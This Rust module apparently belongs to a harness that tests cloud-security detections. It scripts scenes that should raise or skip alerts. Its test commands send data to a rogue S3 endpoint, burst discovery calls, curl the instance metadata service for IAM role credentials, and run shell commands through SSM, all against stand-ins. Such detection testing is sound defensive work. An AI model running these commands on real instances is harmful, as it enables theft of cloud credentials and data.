//! What can be played: for each system a scene that must raise its alert, and one that must stay quiet.

mod catalogue;

use std::io;
use std::path::Path;
use std::thread;
use std::time::Duration;

use harness::{netns, world};
use jiff::Timestamp;

use crate::set::Set;

pub(crate) struct Scene {
    pub(crate) name: &'static str,
    pub(crate) about: &'static str,
    pub(crate) play: fn(&Set) -> io::Result<()>,
}

pub(crate) const ALL: &[Scene] = &[
    Scene {
        name: "system1",
        about: "a backup script sends data to an endpoint nobody knows, twice",
        play: rogue_endpoint,
    },
    Scene {
        name: "system1-forms",
        about: "the other spellings: --endpoint-url=X and AWS_ENDPOINT_URL",
        play: rogue_endpoint_forms,
    },
    Scene {
        name: "system1-known",
        about: "the company's own store, which the allow-list names",
        play: known_endpoint,
    },
    Scene {
        name: "system2",
        about: "someone on the instance looks around with its role: six discovery calls in a burst",
        play: burst_of_six,
    },
    Scene {
        name: "system2-five",
        about: "five calls of the instance's role in the window",
        play: burst_of_five,
    },
    Scene { name: "system3", about: "curl in a shell takes the instance role's keys", play: metadata_theft },
    Scene { name: "system3-agent", about: "a listed agent asks the metadata service", play: metadata_agent },
    Scene {
        name: "metadata-words",
        about: "curl and the AWS CLI talk to the metadata service in every way",
        play: metadata_words,
    },
    Scene {
        name: "system4",
        about: "a command is sent through Systems Manager and runs",
        play: send_command,
    },
    Scene {
        name: "system5-short",
        about: "somebody stops a trail; GuardDuty and the flow logs have news too",
        play: catalogue::play_short,
    },
    Scene {
        name: "system5",
        about: "the detection-engineering catalogue, one call per row",
        play: catalogue::play,
    },
];

/// The scenes of these names; `all` is every one that raises an alert.
pub(crate) fn named(names: &[String]) -> io::Result<Vec<&'static Scene>> {
    if names.iter().any(|name| name == "all") {
        return Ok(ALL.iter().filter(|scene| !scene.name.contains('-')).collect());
    }
    names
        .iter()
        .map(|name| {
            ALL.iter().find(|scene| scene.name == name).ok_or_else(|| {
                let known: Vec<&str> = ALL.iter().map(|scene| scene.name).collect();
                io::Error::other(format!("no scene \"{name}\"; there are {}, and all", known.join(", ")))
            })
        })
        .collect()
}

fn rogue_endpoint(set: &Set) -> io::Result<()> {
    let copy = format!(
        "echo nightly > backup.txt; aws s3 cp backup.txt s3://backup/nightly.txt --endpoint-url http://{}:9000",
        netns::ROGUE[0]
    );
    set.succeed(&copy, "jane.roe")?;
    set.succeed(&copy, "jane.roe").map(drop)
}

fn rogue_endpoint_forms(set: &Set) -> io::Result<()> {
    let url = |n: usize| format!("http://{}:9000", netns::ROGUE[n]);
    set.aws("jane.roe", &format!("--endpoint-url={} s3api list-buckets", url(1)))?;
    let script = format!("export AWS_ENDPOINT_URL={}; aws s3api list-buckets", url(2));
    set.succeed(&script, "jane.roe").map(drop)
}

fn known_endpoint(set: &Set) -> io::Result<()> {
    set.aws("jane.roe", &format!("--endpoint-url http://{}:9000 s3api list-buckets", netns::KNOWN_STORE))
        .map(drop)
}

const DISCOVERY: [&str; 6] = [
    "ec2 describe-instances",
    "iam list-users",
    "s3api list-buckets",
    "lambda list-functions",
    "kms list-keys",
    "dynamodb list-tables",
];

fn burst_of_six(set: &Set) -> io::Result<()> {
    burst(set, 6)
}

fn burst_of_five(set: &Set) -> io::Result<()> {
    burst(set, 5)
}

/// Starts the calls side by side at the start of a ten-second window, so that they end inside it. The caller is the
/// instance's own role: its keys come from the metadata service, and its session bears the instance's id.
fn burst(set: &Set, n: usize) -> io::Result<()> {
    let into_window = Timestamp::now().as_millisecond().rem_euclid(10_000);
    if into_window > 1_000 {
        thread::sleep(Duration::from_millis((10_000 - into_window).unsigned_abs()));
    }
    let calls: Vec<String> = DISCOVERY[..n].iter().map(|call| format!("aws {call} >/dev/null &")).collect();
    set.succeed(&format!("{} wait", calls.join(" ")), "default").map(drop)
}

fn metadata_theft(set: &Set) -> io::Result<()> {
    let base = format!("http://{}/latest", netns::IMDS);
    let script = format!(
        "TOKEN=$(curl -sf -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' {base}/api/token)\n\
         curl -sf -H \"X-aws-ec2-metadata-token: $TOKEN\" {base}/meta-data/iam/security-credentials/{}",
        world::ROLE
    );
    let keys = set.succeed(&script, "default")?;
    let expected = world::instance_role(2).access_key;
    if keys.contains(&expected) {
        Ok(())
    } else {
        Err(io::Error::other("the metadata stand-in gave no keys"))
    }
}

/// Without a token, with one, twice on one connection, and the AWS CLI's own way. Tokens go by way of files, so that no
/// argument holds one.
fn metadata_words(set: &Set) -> io::Result<()> {
    let base = format!("http://{}/latest", netns::IMDS);
    let keys = format!("{base}/meta-data/iam/security-credentials/{}", world::ROLE);
    let script = format!(
        "set -e; curl -sf {keys} >one\n\
         curl -sf -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' {base}/api/token >token\n\
         (printf 'X-aws-ec2-metadata-token: '; cat token) >header; curl -sf -H @header {keys} >two\n\
         curl -sf {base}/meta-data/ami-id {base}/meta-data/instance-id >three; aws sts get-caller-identity"
    );
    let said = set.succeed(&script, "default")?;
    if said.contains(world::ROLE) { Ok(()) } else { Err(io::Error::other(said)) }
}

/// From the SSM agent's working folder, which the rule leaves out.
fn metadata_agent(set: &Set) -> io::Result<()> {
    let script = format!("curl -sf http://{}/latest/meta-data/instance-id", netns::IMDS);
    let output = set.sh_in(Path::new("/var/log/amazon/ssm"), &script, &[])?;
    if output.status.success() {
        Ok(())
    } else {
        Err(io::Error::other("the metadata stand-in did not answer"))
    }
}

fn send_command(set: &Set) -> io::Result<()> {
    let call = format!(
        "ssm send-command --document-name AWS-RunShellScript --instance-ids {} --parameters '{}' --query Command.CommandId \
         --output text",
        world::INSTANCE_ID,
        r#"{"commands":["id","uname -a","ls /var/log/amazon"]}"#,
    );
    let command = set.aws("mallory", &call)?;
    set.await_command(&command)
}
